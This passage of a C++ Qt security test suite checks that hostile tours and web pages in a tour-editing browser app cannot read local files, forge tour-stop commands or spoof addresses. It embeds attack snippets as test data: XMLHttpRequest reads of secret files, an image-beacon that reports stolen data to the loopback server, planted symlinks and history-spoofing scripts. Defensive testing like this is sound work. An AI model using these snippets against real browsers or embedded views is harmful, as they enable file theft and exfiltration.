        program.profile->setDownloadPath(program.path("Downloads"));
        window.load(folder);
        window.show();
        writeLinks();
        if (!inLogo)
            window.runToolBarCommand("Next");
    }

    void tourFile(const QString& name, const QByteArray& bytes) const {
        test::writeFile(toUtf8(program.path("MyTours/hostile/" + name)), bytes.toStdString());
    }

    /// The program itself makes no links in the working copy; others may.
    void writeLinks() const {
        QVERIFY(QFile::link(program.path("Private"), program.working("linked")));
        for (const QString& ending : vaultEndings()) {
            const QString target = program.path("secret.") + ending;
            QVERIFY(QFile::link(target, program.working("link." + ending)));
            std::error_code failure;
            std::filesystem::create_symlink(
                toUtf8(target), toUtf8(program.working("link")) + "\xff." + toUtf8(ending), failure);
            QVERIFY(!failure);
        }
    }

public:
    UiFixture program;
    LoopbackServer server;
    frmMain window;
};

} // namespace

/// Tours and pages that mean ill. Each case is one of them; none may have its way, except for those that only
/// show that it would have been seen.
class HostileToursTest final : public QObject {
    Q_OBJECT

private slots:
    void cleanupTestCase() const {
        qInfo("%d hostile tours and pages, %d successes; %d of %d controls seen", m_cases, m_successes,
              m_controlsSeen, m_controls);
    }

    void tourReadsNoFileButItsOwn_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<int>("place");
        QTest::addColumn<bool>("leaves");
        QTest::addColumn<bool>("control");
        int turn = 0;
        for (const Reader& reader : readers) {
            const QString name = QLatin1String(reader.name);
            const auto add = [&](const QString& where, const QString& address, bool control) {
                const auto place = static_cast<int>(turn % 3 == 0 ? Place::narration : Place::siteFrame);
                const QString target = address + QLatin1String(reader.ending);
                QTest::addRow("%s, %s", reader.name, qPrintable(where))
                    << QString::fromLatin1(reader.html).replace("{target}", target) << place << reader.leaves
                    << control;
            };
            if (reader.works)
                add("of the tour", "secret.", true);
            const auto count = static_cast<int>(std::size(waysOut));
            const int ways = thorough.contains(name) ? count : 1;
            for (int i = 0; i < ways; ++i) {
                const Way& way = waysOut[ways == 1 ? turn % count : i];
                add(QLatin1String(way.name), QLatin1String(way.address), false);
            }
            ++turn;
        }
    }

    void tourReadsNoFileButItsOwn() {
        QFETCH(QString, html);
        QFETCH(int, place);
        QFETCH(bool, leaves);
        QFETCH(bool, control);
        HostileTour tour;
        judgeTour(tour, static_cast<Place>(place), html, leaves, control);
    }

    void tourHasNoRights_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<int>("place");
        QTest::addColumn<bool>("leaves");
        QTest::addColumn<bool>("control");
        QTest::addColumn<int>("dialogs");
        const auto add = [](const char* name, const char* html, Place place, bool leaves, bool control,
                            int dialogs = 0) {
            QTest::newRow(name) << QString::fromLatin1(html) << static_cast<int>(place) << leaves << control
                                << dialogs;
        };
        const char* const asking = "<script>won('asking');</script>";
        add("asking the server, site frame", asking, Place::siteFrame, false, true);
        add("asking the server, narration", asking, Place::narration, false, true);
        add("asking the server, opening page", asking, Place::logo, false, true);
        int turn = 0;
        for (const Wish& wish : wishes)
            add(wish.name, wish.html, static_cast<Place>(turn++ % 3), wish.leaves, false, wish.dialogs);
    }

    void tourHasNoRights() {
        QFETCH(QString, html);
        QFETCH(int, place);
        QFETCH(bool, leaves);
        QFETCH(bool, control);
        QFETCH(int, dialogs);
        QGuiApplication::clipboard()->setText(QString::fromLatin1(secret));
        HostileTour tour;
        judgeTour(tour, static_cast<Place>(place), html, leaves, control, dialogs);
        QVERIFY(tour.window.isVisible());
    }

    /// What the program forbids is allowed here, so that each kind of success is seen once.
    void rightsThatArePagesOwnAreSeen_data() {
        QTest::addColumn<QString>("html");
        QTest::newRow("message") << "<script>alert('PWNED');</script>";
        QTest::newRow("saving a file of the web") << wishNamed("saving a file of the web");
        QTest::newRow("saving made-up data") << wishNamed("saving made-up data");
        QTest::newRow("notifications") << wishNamed("notifications");
        QTest::newRow("clipboard by pasting") << wishNamed("clipboard by pasting");
        QTest::newRow("window") << wishNamed("window");
    }

    void rightsThatArePagesOwnAreSeen() {
        QFETCH(QString, html);
        QGuiApplication::clipboard()->setText(QString::fromLatin1(secret));
        const UiFixture program;
        LoopbackServer server;
        const Values values = valuesOf(program, server);
        arm(server, values);
        servePage(server, values, {"", html.toUtf8().constData()});
        QWebEngineProfile profile;
        QWebEngineView view;
        GenerousPage page(profile);
        view.setPage(&page);
        view.show();
        Watch watch(server);
        watch.followDownloads(profile);
        view.load(QUrl(server.address("/attack.htm")));
        watch.letAttack(false);
        judge(watch, true);
        view.setPage(nullptr);
    }

    void linkThatIsReallyClickedIsSeen() {
        HostileTour tour;
        tour.window.show();
        Watch watch(tour.server);
        tour.open(Place::siteFrame, "<a target=_blank href='{server}/quiet.htm' style='position: fixed;"
                                    " inset: 0; background: red'>a</a>");
        watch.letAttack(false);
        QVERIFY(watch.successes().isEmpty());
        // A page that has not been drawn yet does not take a click.
        for (const QDeadlineTimer end(test::patience); watch.successes().isEmpty() && !end.hasExpired();) {
            // Each process that draws the pages has another one.
            QWidget& surface = *tour.browser().focusProxy()->focusProxy();
            QTest::mouseClick(&surface, Qt::LeftButton, {}, {surface.width() / 2, surface.height() / 8});
            static_cast<void>(waitUntil([&] { return !watch.successes().isEmpty(); }, clickTime));
        }
        judge(watch, true);
    }

    void pageOfTheWebInATourMovesNoStop_data() { addForgeries(); }

    void pageOfTheWebInATourMovesNoStop() {
        QFETCH(int, row);
        const Forgery& forged = forgeries[row];
        HostileTour tour;
        servePage(tour.server, tour.values(), forged);
        tour.window.show();
        Watch watch(tour.server);
        watch.follow(tour.browser(), tour.program.path("NewTour/"), true);
        tour.openAt(QStringLiteral("{server}") + QLatin1String(forged.address));
        watch.hold(tour.program.model);
        QVERIFY(waitUntil([&] { return watch.heard(QLatin1String(forged.address)); }));
        watch.letAttack(forged.leaves);
        judge(watch, false);
        QCOMPARE(tour.program.model.currentStop, std::int16_t{1});
    }

    /// The same words from a page of the tour do move it, so that it would be seen.
    void pageOfTheTourMovesTheStop_data() {
        QTest::addColumn<QString>("words");
        QTest::addColumn<std::int16_t>("stop");
        QTest::newRow("status text") << QStringLiteral("status = ") + QLatin1String(forgery)
                                     << std::int16_t{3};
        QTest::newRow("message") << "parent.postMessage({tour: 'go', to: 'next'}, '*')" << std::int16_t{2};
        QTest::newRow("message with a number")
            << "parent.postMessage({tour: 'stop', stop: 3}, '*')" << std::int16_t{3};
    }

    void pageOfTheTourMovesTheStop() {
        QFETCH(QString, words);
        QFETCH(std::int16_t, stop);
        HostileTour tour;
        tour.window.show();
        Watch watch(tour.server);
        tour.open(Place::siteFrame,
                  QStringLiteral("<script>setTimeout(function () { %1; }, 100);</script>").arg(words));
        watch.hold(tour.program.model);
        watch.letAttack(true);
        QVERIFY(waitUntil([&] { return tour.program.model.currentStop == stop; }));
        judge(watch, true);
    }

    void pageOfTheWebInTheSiteEditorMovesNoStop_data() { addForgeries(); }

    void pageOfTheWebInTheSiteEditorMovesNoStop() {
        QFETCH(int, row);
        const Forgery& forged = forgeries[row];
        judgeVisit(forged, false);
    }

    void pageOfTheWebReadsNoFile_data() {
        QTest::addColumn<QString>("html");
        QTest::addColumn<bool>("leaves");
        QTest::addColumn<bool>("control");
        QTest::newRow("asking the server") << "<script>won('asking');</script>" << false << true;
        bool ofTheTour = false;
        for (const Reader& reader : readers) {
            ofTheTour = !ofTheTour;
            const QString target =
                QLatin1String(ofTheTour ? "{in}secret." : "{out}secret.") + QLatin1String(reader.ending);
            QTest::addRow("%s, %s", reader.name, ofTheTour ? "of the tour" : "outside")
                << QString::fromLatin1(reader.html).replace("{target}", target) << reader.leaves << false;
        }
    }

    void pageOfTheWebReadsNoFile() {
        QFETCH(QString, html);
        QFETCH(bool, leaves);
        QFETCH(bool, control);
        const QByteArray text = html.toUtf8();
        judgeVisit({"", text.constData(), leaves}, control);
    }

    void addressThatATourMakesUpIsNotShown_data() {
        QTest::addColumn<QString>("script");
        for (const char* change : {"history.pushState(null, '', '{out}Private/page.htm');",
                                   "history.replaceState(null, '', '{out}Private/page.htm');"})
            QTest::newRow(change) << QString::fromLatin1(change);
    }

    void addressThatATourMakesUpIsNotShown() {
        QFETCH(QString, script);
        SiteEditor open;
        const Values values = valuesOf(open.program, open.server);
        open.write("weapons.js", fill(QString::fromLatin1(weapons), values).toUtf8());
        open.write("attack.htm",
                   fill("<script src=weapons.js></script><script>attempt(function () { " + script +
                            " }); if (!/attack/.test(location.href)) won('address');</script>",
                        values)
                       .toUtf8());
        Watch watch(open.server);
        QLineEdit& field = *open.address().lineEdit();
        field.setText(open.local("attack.htm"));
        QTest::keyClick(&field, Qt::Key_Return);
        QVERIFY(waitUntil([&] { return watch.heard("/done"); }));
        letPass(aftermath);
        if (!open.browser().locationURL().endsWith("/NewTour/attack.htm"))
            watch.note("shows " + open.browser().locationURL());
        judge(watch, false);
    }

    /// The author's own pages are read with what lies beside them, but by themselves only.
    void tourReadsNothingBesideTheAuthorsOwnPages_data() {
        QTest::addColumn<QStringList>("visits");
        QTest::addColumn<bool>("control");
        const QString attack = QStringLiteral("{in}attack.htm");
        const QString own = QStringLiteral("{out}Private/own.htm");
        QTest::newRow("own page by itself") << QStringList{own} << true;
        QTest::newRow("own page with a script in its head")
            << QStringList{attack, "{out}Private/scripted.htm"} << true;
        QTest::newRow("file to be saved") << QStringList{attack, "{out}Private/archive.zip"} << false;
        QTest::newRow("missing page") << QStringList{attack, "{out}Private/missing.htm"} << false;
        QTest::newRow("back from an own page") << QStringList{own, attack, own, "Back"} << false;
        QTest::newRow("address of a stop") << QStringList{attack, "stop {out}Private/archive.zip"} << false;
    }

    void tourReadsNothingBesideTheAuthorsOwnPages() {
        QFETCH(QStringList, visits);
        QFETCH(bool, control);
        SiteEditor open;
        const Values values = valuesOf(open.program, open.server);
        const QString wish =
            fill("<title>Page</title><script src='{in}weapons.js'></script><script>"
                 "setInterval(function () { attempt(function () { var r = new XMLHttpRequest();"
                 " r.open('GET', '{out}Private/secret.txt', false); r.send();"
                 " look(r.responseText); }); }, 5);</script>",
                 values);
        open.write("weapons.js", fill(QString::fromLatin1(weapons), values).toUtf8());
        open.write("attack.htm", wish.toUtf8());
        writeVaults(open.program, open.server, {"Private/"});
        const auto own = [&](const char* name, const std::string& bytes) {
            test::writeFile(toUtf8(open.program.path(QLatin1String("Private/") + QLatin1String(name))),
                            bytes);
        };
        own("own.htm", control ? toUtf8(wish) : "<title>Own</title>own");
        own("scripted.htm", toUtf8(fill("<script src='secret.js'></script><script>if (self.stolen)"
                                        " new Image().src = '{server}/success?script';</script>",
                                        values)));
        own("archive.zip", "PK\x03\x04");
        Watch watch(open.server);
        for (const QString& visit : visits) {
            const QString address = fill(visit, values);
            if (address == QLatin1String("Back")) {
                open.click("Back");
            } else if (address.startsWith(QLatin1String("stop "))) {
                open.program.model.stops.at(2).stopURL = toUtf8(address.mid(5));
                open.window.runToolBarCommand("EdBro");
            } else {
                QLineEdit& field = *open.address().lineEdit();
                field.setText(address);
                QTest::keyClick(&field, Qt::Key_Return);
            }
            watch.letAttack(true);
        }
        judge(watch, control);
    }

    void tagOutOfRangeMovesNothing_data() {
        QTest::addColumn<QString>("number");
        for (const Tag& tag : tags)
            QTest::newRow(tag.name) << QString::fromLatin1(tag.number);
    }

    void tagOutOfRangeMovesNothing() {
        QFETCH(QString, number);
        HostileTour tour;
        tour.window.show();
        Watch watch(tour.server);
        tour.open(
            Place::siteFrame,
            QStringLiteral("<script>setTimeout(function () { status = '>*>*>vosktourstop->' + %1; }, 100);"
                           "</script>")
                .arg(number));
        watch.letAttack(false);
        const std::int16_t stop = tour.program.model.currentStop;
        if (stop < 0 || stop > tourCapacity)
            watch.note(QStringLiteral("the stop is %1").arg(stop));
        judge(watch, false);
        // No command may fall over the number.
        for (const char* command : {"EdNar", "EdBro", "Forward", "Back", "Prev", "Next", "Insert", "Delete"})
            tour.window.runToolBarCommand(QLatin1String(command));
        QVERIFY(tour.program.model.currentStop >= 0);
        QVERIFY(tour.program.model.currentStop <= tour.program.model.stopCount());
    }

    /// Stands at the end, and counts all that came before.
    void noneOfThemHasHadItsWay() const {
        QVERIFY(m_cases >= 250);
        QVERIFY(m_controls >= 25);
        QCOMPARE(m_successes, 0);
        QCOMPARE(m_controlsSeen, m_controls);
    }

private:
    static QString wishNamed(const char* name) {
        for (const Wish& wish : wishes) {
            if (QLatin1String(wish.name) == QLatin1String(name))
                return QString::fromLatin1(wish.html);
        }
        qFatal("no such wish");
        return {};
    }

    static void addForgeries() {
        QTest::addColumn<int>("row");
        for (int i = 0; i < static_cast<int>(std::size(forgeries)); ++i)
            QTest::newRow(forgeries[i].name) << i;
    }

    static void servePage(LoopbackServer& server, const Values& values, const Forgery& page) {
        const QString html = QString::fromLatin1(page.html).replace("{tag}", QLatin1String(forgery));
        LoopbackServer::Answer answer;
        answer.body =
            fill("<title>Attack</title><script src='weapons.js'></script><body>" + html, values).toUtf8();
        if (*page.policy != '\0')
            answer.headers = {{"Content-Security-Policy", page.policy}};
        server.answer("/attack.htm", answer);
    }

    /// Shows a page in the site editor.
    void judgeVisit(const Forgery& page, bool control) {
        SiteEditor open;
        const Values values = valuesOf(open.program, open.server);
        writeVaults(open.program, open.server, {"", "NewTour/"});
        arm(open.server, values);
        servePage(open.server, values, page);
        Watch watch(open.server);
        watch.follow(open.browser(), {}, false);
        watch.followDownloads(*open.program.profile);
        watch.hold(open.program.model);
        QLineEdit& field = *open.address().lineEdit();
        field.setText(open.served(QLatin1String(page.address)));
        QTest::keyClick(&field, Qt::Key_Return);
        QVERIFY(waitUntil([&] { return watch.heard(QLatin1String(page.address)); }));
        watch.letAttack(page.leaves);
        if (open.isOpen() && open.browser().location().isLocalFile())
            watch.note("the page leads to " + open.browser().locationURL());
        judge(watch, control);
        QCOMPARE(open.program.model.currentStop, std::int16_t{2});
    }

    void judgeTour(HostileTour& tour, Place place, const QString& html, bool leaves, bool control,
                   int dialogs = 0) {
        tour.window.show();
        Watch watch(tour.server);
        watch.allowDialogs(dialogs);
        watch.follow(tour.browser(), tour.program.path("NewTour/"), true);
        watch.followDownloads(*tour.program.profile);
        tour.open(place, html);
        watch.letAttack(leaves);
        judge(watch, control);
    }

    void judge(const Watch& watch, bool control) {
        if (control) // What is slow must not look unseen.
            static_cast<void>(waitUntil([&] { return !watch.successes().isEmpty(); }));
        const QStringList successes = watch.successes();
        if (control) {
            ++m_controls;
            m_controlsSeen += successes.isEmpty() ? 0 : 1;
            QVERIFY2(!successes.isEmpty(), "what this page does is not seen");
        } else {
            ++m_cases;
            m_successes += successes.isEmpty() ? 0 : 1;
            QVERIFY2(successes.isEmpty(), qPrintable(successes.join("; ")));
        }
    }

    int m_cases = 0;
    int m_successes = 0;
    int m_controls = 0;
    int m_controlsSeen = 0;
};

} // namespace wendmark

int main(int argc, char* argv[]) {
    QApplication application(argc, argv);
    wendmark::HostileToursTest tests;
    return QTest::qExec(&tests, argc, argv);
}

#include "HostileToursTest.moc"
